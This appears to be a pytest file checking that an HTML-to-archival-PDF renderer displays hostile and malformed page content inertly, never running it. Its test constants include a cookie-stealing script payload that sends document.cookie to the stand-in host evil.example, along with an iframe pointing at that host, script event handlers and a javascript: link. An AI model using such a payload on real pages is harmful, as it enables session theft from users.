"""A content page's HTML as a readable PDF/A-3b record: a gallery of hostile and broken
inputs, each rendered and read back; the limits; the raw HTML attached."""

from __future__ import annotations

import subprocess
import sys
from datetime import UTC, datetime

import pytest

from pipeline.core.errors import RenderRefused
from pipeline.records.pdf.html import MAX_HTML_BYTES, draw_html
from pipeline.records.pdf.rtl import visual_line
from pipeline.records.pdf.sheet import Attachment, DocumentMeta, RenderedDocument, Sheet
from tests.documents.pdf_checks import (
    assert_archival,
    attached_files,
    font_names,
    open_pdf,
    text_of,
)

DATED = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
SOURCE = b'{"id": 7, "name": "Terms"}'
KEPT = "kept verbatim in the attached HTML"
EXFILTRATE = "document.location='https://evil.example/?'+document.cookie"
SWALLOWED = "var a = 1; <p>swallowed by the unterminated script</p>"
HIDE = "body{display:none}"
JS_LINK = "javascript:void(fetch(1))"


def render(html: str) -> RenderedDocument:
    meta = DocumentMeta(
        title="Terms and Conditions",
        heading="DISCLOSURE",
        subject="Content page 7",
        author="bcrm",
        date=DATED,
        template_version="disclosure-test",
        filename="page-7.pdf",
    )
    sheet = Sheet(meta)
    draw_html(sheet, html)
    raw = Attachment(html.encode(), "page-7.html", "text/html", "The page body as the API gave it")
    return sheet.finish(SOURCE, "page-7.json", [raw])


def flat(text: str) -> str:
    """Extracted text with line breaks as spaces: assertions need not know the wrapping."""
    return " ".join(text.split())


GALLERY = {
    "structure": (
        "<h1>Terms &amp; Conditions</h1><p>By ordering you accept <b>these terms</b>.</p>"
        "<ul><li>one<li>two<ul><li>two a</ul><li>three</ul><ol start=4><li>four<li>five</ol>"
        "<hr><dl><dt>Seller<dd>Example GmbH</dl>",
        [
            "Terms & Conditions",
            "By ordering you accept these terms.",
            "• one",
            "• two",
            "◦ two a",
            "• three",
            "4. four",
            "5. five",
            "Seller",
            "Example GmbH",
        ],
    ),
    "links": (
        '<p>Read <a href="https://shop.example/privacy">our notice</a>, '
        '<a href="mailto:legal@shop.example">legal@shop.example</a>, '
        '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>. <a href="/terms">/terms</a></p>',
        [
            "our notice (https://shop.example/privacy)",
            "(https://shop.example/privacy), legal@shop.example, data (data:",
            "data (data: URL, 34 characters). /terms page-7.pdf",  # no URL twice
        ],
    ),
    "table": (
        "<table><caption>Rates</caption><thead><tr><th>Zone<th>Price</thead>"
        "<tbody><tr><td>EU<td>9.90 EUR<tr><td>World<td>19.90 EUR</tbody></table>",
        ["Rates", "Zone Price", "EU 9.90 EUR", "World 19.90 EUR"],
    ),
    "script": (
        f"<p>before</p><script>{EXFILTRATE}</script><p>after</p>",
        ["before", f"[script: {len(EXFILTRATE)} characters, not run; {KEPT}]", "after"],
    ),
    "unclosed script swallows the rest": (
        f"<p>visible</p><script>{SWALLOWED}",
        ["visible", f"[script: {len(SWALLOWED)} characters, not run; {KEPT}]"],
    ),
    "style": (
        f"<style>{HIDE}</style><p>still shown</p>",
        [f"[style sheet: {len(HIDE)} characters, not applied; {KEPT}]", "still shown"],
    ),
    "iframe and object": (
        '<iframe src="https://evil.example/x">inner</iframe>'
        '<object data="movie.swf">fallback text</object><embed src="a.swf">',
        [
            "[embedded frame from https://evil.example/x: not loaded; " + KEPT + "]",
            "[embedded object from movie.swf: not loaded]",
            "fallback text",
            "[embedded embed from a.swf: not loaded]",
        ],
    ),
    "event handlers": (
        '<p onclick="steal()">Click <img src="x.png" alt="Logo" onerror="evil(1)"></p>'
        f'<a href="{JS_LINK}">Pay</a>',
        [
            "[onclick on <p>: 7 characters of script, not run; " + KEPT + "]",
            "[onerror on <img>: 7 characters of script, not run; " + KEPT + "]",
            "[image: Logo from x.png; not included]",
            f"Pay [javascript: link, {len(JS_LINK)} characters, not followed]",
        ],
    ),
    "mis-nested and unclosed tags": (
        "<p>one <b>two <i>three</b> four</i> five<p>six <li>seven</ul></div></td> eight",
        ["one two three four five", "six", "• seven", "eight"],
    ),
    "entities, comments and CDATA": (
        "<p>&lt;b&gt; &copy; 2026 &euro;5 &#x41;&#66; &bogus; &amp</p><!-- hidden note -->"
        "<![CDATA[raw <text>]]><?php echo 1; ?>",
        [
            "<b> © 2026 €5 AB &bogus; &",
            "raw <text>",
            "1 comment (13 characters)",
            "1 processing instruction",
        ],
    ),
    "huge word": (
        "<p>" + "x" * 5000 + "</p><p>end</p>",
        ["end"],
    ),
    "deep lists": (
        "<ul>" * 300 + "<li>deepest" + "</ul>" * 300 + "<p>after the lists</p>",
        ["deepest", "elements nested deeper than 64 levels", "after the lists"],
    ),
    "nested tables": (
        "<table><tr><td>outer<table><tr><td>inner a<td>inner b</table><td>right</table>",
        ["outer inner a | inner b right"],
    ),
    "empty": ("", ["(The page body is empty.)"]),
    "only markup": ("<div><span></span></div>", []),
}


@pytest.mark.parametrize("case", GALLERY)
def test_gallery_renders_readable_archival_pdfs(case: str) -> None:
    html, expected = GALLERY[case]
    document = render(html)
    text = flat(text_of(document))
    for fragment in expected:
        assert fragment in text
    assert_archival(document, SOURCE, DATED, extra=[html.encode()] if html else [])
    assert "<script" not in text and "onclick=" not in text


def test_huge_word_is_cut_into_lines_without_losing_a_character() -> None:
    document = render("<p>" + "x" * 5000 + "</p>")
    assert text_of(document).count("x") == 5000


def test_raw_html_is_attached_as_html_source_next_to_the_json() -> None:
    html = "<p>Terms</p>"
    files = attached_files(render(html))
    assert files == {
        "page-7.json": (SOURCE, "/application/json", "/Source"),
        "page-7.html": (html.encode(), "/text/html", "/Source"),
    }


def test_same_html_renders_identical_bytes() -> None:
    html = GALLERY["structure"][0] + GALLERY["script"][0]
    assert render(html).bytes == render(html).bytes


def test_right_to_left_and_cjk_paragraphs() -> None:
    hebrew = "תנאי השימוש של החנות"
    document = render(f"<p>{hebrew}</p><p>日本語の利用規約</p><p>Hindi नमस्ते</p>")
    text = text_of(document)
    assert visual_line(hebrew) in text or hebrew in text
    assert "日本語の利用規約" in text
    assert "Hindi \ufffd" in text  # no shipped font draws Devanagari: visibly replaced
    with open_pdf(document) as pdf:
        assert "DroidSansFallback" in font_names(pdf)


def test_a_one_megabyte_page_renders() -> None:
    paragraph = "<p>" + "Lorem ipsum dolor sit amet, <b>consectetur</b> adipiscing. " * 20 + "</p>"
    html = (paragraph * (1_000_000 // len(paragraph) + 1))[:1_000_000]
    document = render(html)
    assert document.page_count > 100
    assert text_of(document).count("consectetur") > 10_000


def test_an_oversize_page_is_refused_naming_the_limit() -> None:
    html = "<p>" + "a " * (MAX_HTML_BYTES // 2 + 1) + "</p>"
    with pytest.raises(RenderRefused, match=r"above the 2,000,000-byte limit"):
        render(html)


def test_a_page_with_too_many_tags_is_refused_before_parsing() -> None:
    with pytest.raises(RenderRefused, match=r"100,001 tags, above the 100,000-tag limit"):
        render("x<br>" * 100_001)


def test_a_page_that_would_run_to_too_many_pages_is_refused() -> None:
    with pytest.raises(RenderRefused, match=r"more than 400 pages"):
        render("<pre>" + "x\n" * 30_000 + "</pre>")


def test_another_process_renders_the_same_bytes() -> None:
    script = (
        "import sys; from tests.documents.test_html_render import render, GALLERY;"
        "sys.stdout.buffer.write(render(GALLERY['table'][0]).bytes)"
    )
    other = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        check=True,
        env={"PYTHONHASHSEED": "123", "PATH": ""},
        cwd=".",
    )
    assert other.stdout == render(GALLERY["table"][0]).bytes
